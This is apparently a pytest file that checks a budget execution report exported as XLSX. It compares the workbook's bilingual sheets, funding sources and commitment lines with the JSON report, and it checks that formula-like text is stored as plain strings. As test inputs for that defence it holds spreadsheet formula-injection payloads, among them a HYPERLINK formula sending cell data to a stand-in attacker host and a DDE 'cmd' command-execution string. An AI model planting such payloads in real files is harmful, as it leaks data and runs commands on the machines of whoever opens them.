"""The budget execution report as XLSX, read back with openpyxl: the budget's headings in
English and Russian, the sources of funding with in kind, the budget lines and every
commitment line, amounts to the cent; text that looks like a formula stays text."""

from __future__ import annotations

import io
import uuid
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from finance.reports.xlsxformat import PARTY_LABELS
from openpyxl import load_workbook

from shared.db import utcnow
from shared.events.assessment import AssessmentScheduled
from shared.events.training import (
    CostItem,
    EnrolmentCreated,
    EnrolmentWithdrawn,
    InternshipApproved,
)
from shared.money import Money
from shared.spreadsheet import neutral

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Бюджет когорты")'
DESCRIPTION = "+cmd|' /C calc'!A0 — сертификации"


def cents(value: Any) -> Decimal:
    """A numeric cell as the exact amount it was written as (two places)."""
    return Decimal(str(value)).quantize(Decimal("0.01"))


def enrolment(cohort: uuid.UUID, company: uuid.UUID, price: str) -> EnrolmentCreated:
    return EnrolmentCreated(
        enrolment_id=uuid.uuid4(),
        company_id=company,
        cohort_id=cohort,
        trainee_id=uuid.uuid4(),
        course_id=uuid.uuid4(),
        skills_area="system_administrator",
        module="technical_training",
        list_price=Money.of(price, "USD"),
        vendor_discount_percent=Decimal(75),
        enrolled_at=utcnow(),
    )


async def world(service: Any) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    cohort, company = uuid.uuid4(), uuid.uuid4()
    budget = await service.post(
        "/budgets",
        {
            "programme_year": 2027,
            "cohort_id": str(cohort),
            "currency": "USD",
            "title": TITLE,
            "lines": [
                {
                    "module": "technical_training",
                    "description": DESCRIPTION,
                    "unit_cost": {"amount": "1200.00", "currency": "USD"},
                    "low_quantity": "1",
                    "high_quantity": "2",
                    "rule": "technical_training",
                },
                {
                    "module": "assessment",
                    "description": "@SUM(1+1) визиты",
                    "unit_cost": {"amount": "1000.00", "currency": "USD"},
                    "low_quantity": "1",
                    "high_quantity": "1",
                    "rule": "assessment",
                },
            ],
        },
    )
    dropped = enrolment(cohort, company, "999.99")
    events = [
        enrolment(cohort, company, "1200.00"),
        enrolment(cohort, uuid.uuid4(), "1500.01"),
        dropped,
        EnrolmentWithdrawn(
            enrolment_id=dropped.enrolment_id,
            company_id=company,
            cohort_id=cohort,
            withdrawn_at=utcnow(),
        ),
        AssessmentScheduled(
            assessment_id=uuid.uuid4(),
            company_id=company,
            cohort_id=cohort,
            starts_on=date(2027, 4, 5),
            ends_on=date(2027, 4, 9),
            expected_cost=Money.of("1100.00", "USD"),
            assessors=2,
        ),
        InternshipApproved(
            internship_id=uuid.uuid4(),
            company_id=company,
            cohort_id=cohort,
            trainee_id=uuid.uuid4(),
            kind="short",
            host_company_id=uuid.uuid4(),
            starts_on=date(2027, 5, 10),
            ends_on=date(2027, 5, 21),
            estimated_cost=[CostItem(item="stay", amount=Money.of("500000", "KZT"))],
            approved_at=utcnow(),
        ),
    ]
    for event in events:
        await service.publish(event)
    await service.consumed(len(events))
    path = f"/reports/budget-execution/{budget['id']}"
    report = await service.get(path, service.ministry)
    response = await service.http.get(path, headers={**service.ministry, "accept": XLSX})
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == XLSX
    assert response.headers["content-disposition"].endswith(
        f'budget-execution-{budget["id"]}.xlsx"'
    )
    return budget, report, response.content


class TestXlsx:
    async def test_the_workbook_agrees_with_the_json_to_the_cent(self, service: Any) -> None:
        _, report, content = await world(service)
        book = load_workbook(io.BytesIO(content))
        assert book.sheetnames == [
            "Execution",
            "Sources of funding",
            "Budget lines",
            "Commitment lines",
        ]

        execution = [list(row) for row in book["Execution"].iter_rows(values_only=True)]
        by_key = {(row[0], row[2]): row for row in execution if row and row[2]}
        # the revision's status in words, as /reference/statuses labels it, not its code
        [revision] = [row for row in execution if row and row[0] == "Revision / Редакция"]
        assert revision[1:3] == [report["revision"], "draft / черновик"]
        headings = ("Technical training", "Техническое обучение")
        technical = by_key[("Technical training", "All parties")]
        assert technical[1] == headings[1]
        # budgeted low, high, committed, invoiced, paid, remaining, % of high
        assert [cents(v) for v in technical[5:11]] == [
            Decimal("1200.00"),
            Decimal("2400.00"),
            Decimal("2700.01"),
            Decimal("0.00"),
            Decimal("0.00"),
            Decimal("2700.01"),
        ]
        assert cents(technical[11]) == Decimal("112.50")
        vendor = by_key[("Technical training", "Training vendors (in kind)")]
        assert (vendor[3], vendor[4], cents(vendor[7])) == (
            "Поставщики обучения (в натуральной форме)",
            "yes / да",
            Decimal("2025.01"),
        )
        parties = [
            row for (module, party), row in by_key.items()
            if module == "Technical training" and party != "All parties"
        ]  # fmt: skip
        assert sum(cents(row[7]) for row in parties) == cents(technical[7])
        total = by_key[("Total", "All parties")]
        assert total[1] == "Итого"
        assert cents(total[7]) == Decimal(report["total"]["committed"]["total"]["amount"])
        modules = [row for (m, p), row in by_key.items() if p == "All parties" and m != "Total"]
        assert [cents(row[7]) for row in modules] == [
            Decimal(m["committed"]["total"]["amount"]) for m in report["modules"]
        ]
        # the KZT internship is beside, not converted
        assert any(row[0] and "KZT" in str(row[0]) for row in execution if row)

        sources = [list(r) for r in book["Sources of funding"].iter_rows(values_only=True)]
        [header] = [r for r in sources if r and r[0] == "Party"]
        column = {heading: index for index, heading in enumerate(header) if heading}
        figures = ["Budgeted low", "Budgeted high", "Committed", "Invoiced", "Paid", "Remaining"]
        rows_by_label = {r[0]: r for r in sources if r and r[0] and " / " in str(r[0])}
        sum_row = rows_by_label["Total / Итого"]
        in_kind_row = rows_by_label["In kind / В натуральной форме"]
        others = [
            rows_by_label[f"{en} / {ru}"]
            for en, ru in PARTY_LABELS.values()
            if f"{en} / {ru}" in rows_by_label
        ]
        assert {r[column["In kind"]] for r in others} == {"yes / да", ""}
        for heading in figures:
            at = column[heading]
            assert sum(cents(r[at]) for r in others) == cents(sum_row[at]), heading
        total = report["total"]
        for heading, field in zip(
            figures[2:], ["committed", "invoiced", "paid", "remaining"], strict=True
        ):
            assert cents(sum_row[column[heading]]) == Decimal(total[field]["total"]["amount"])
            # the in-kind row: each figure's in-kind part under its own heading
            assert cents(in_kind_row[column[heading]]) == Decimal(total[field]["in_kind"]["amount"])
        assert cents(in_kind_row[column["Budgeted high"]]) == Decimal(
            total["budgeted"]["high"]["in_kind"]["amount"]
        )
        [vendor] = [r for r in others if r[column["In kind"]] == "yes / да"]
        assert cents(vendor[column["Committed"]]) == cents(in_kind_row[column["Committed"]])
        assert cents(in_kind_row[column["Committed"]]) == Decimal("2025.01")
        assert sum(cents(r[column["Share of committed, %"]]) for r in others) == Decimal("100.00")
        # what is committed in KZT sits under Committed, said to be outside the total
        [kzt] = [r for r in sources if r and "KZT" in str(r[0])]
        assert "not in the total" in kzt[0]
        assert cents(kzt[column["Committed"]]) == Decimal("500000.00")
        assert [v for i, v in enumerate(kzt) if v not in (None, "") and i != 0] == [
            kzt[column["Committed"]]
        ]

        lines = [list(r) for r in book["Commitment lines"].iter_rows(values_only=True)]
        header, rows = lines[0], lines[1:]
        assert header[1] == "Source / Источник"
        usd = [r for r in rows if r[8] == "USD"]
        assert sum(cents(r[7]) for r in usd) == Decimal(
            report["total"]["committed"]["total"]["amount"]
        )
        assert sum(cents(r[7]) for r in rows if r[8] == "KZT") == Decimal("500000.00")
        # 2 enrolments × 3 parties, the assessment × 2, the internship × 3; not the withdrawn
        assert len(rows) == 11
        assert {r[1] for r in rows} == {"enrolment", "assessment", "internship"}

    async def test_text_that_looks_like_a_formula_is_a_string_cell(self, service: Any) -> None:
        _, _, content = await world(service)
        book = load_workbook(io.BytesIO(content))
        title = book["Execution"]["B2"]
        assert (title.value, title.data_type, title.quotePrefix) == (TITLE, "s", True)
        cells = [c for row in book["Budget lines"].iter_rows() for c in row if c.value]
        described = {c.value: c for c in cells if isinstance(c.value, str)}
        for text in (DESCRIPTION, "@SUM(1+1) визиты"):
            assert (described[text].data_type, described[text].quotePrefix) == ("s", True)
        assert not [c for c in cells if c.data_type == "f"]


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701 000 00 00", "'+7 701 000 00 00"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted", "''quoted"),
        ("Итого", "Итого"),
    ],
)
def test_a_csv_text_cell_is_never_a_formula(text: str, written: str) -> None:
    assert neutral(text) == written
